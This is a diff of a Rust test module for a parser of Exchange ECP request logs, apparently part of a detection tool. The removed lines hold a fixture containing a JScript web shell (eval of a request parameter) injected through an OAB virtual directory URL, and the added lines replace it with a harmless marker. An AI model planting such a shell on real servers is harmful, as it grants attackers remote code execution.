@@ -165,7 +165,7 @@ fn is_param_start(b: &[u8], i: usize) -> bool {
 mod tests {
     use super::*;
 
-    const MALICIOUS: &str = r#"2021-02-11T04:30:58.214Z,EX01,ECP.Request,"S:TIME=402;S:SID=8c0f2e71;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://k/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""zq7w""],""unsafe"");}</script>''.Identity=''5d0c7a3e-91f2''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=VGVzdA;S:BLD=15.1.2106.2;S:ACID=""#;
+    const MALICIOUS: &str = r#"2021-02-11T04:30:58.214Z,EX01,ECP.Request,"S:TIME=402;S:SID=8c0f2e71;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://k/<script language=""JScript"" runat=""server"">function Page_Load(){Response.Write(""exhunt-test-zq7w"");}</script>''.Identity=''5d0c7a3e-91f2''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=VGVzdA;S:BLD=15.1.2106.2;S:ACID=""#;
 
     #[test]
     fn decodes_both_quoting_layers() {
@@ -185,7 +185,7 @@ mod tests {
         assert_eq!(c.params[0].0, "ExternalUrl");
         assert_eq!(
             c.params[0].1,
-            r#"http://k/<script language="JScript" runat="server">function Page_Load(){eval(Request["zq7w"],"unsafe");}</script>"#
+            r#"http://k/<script language="JScript" runat="server">function Page_Load(){Response.Write("exhunt-test-zq7w");}</script>"#
         );
         assert_eq!(
             c.params[1],
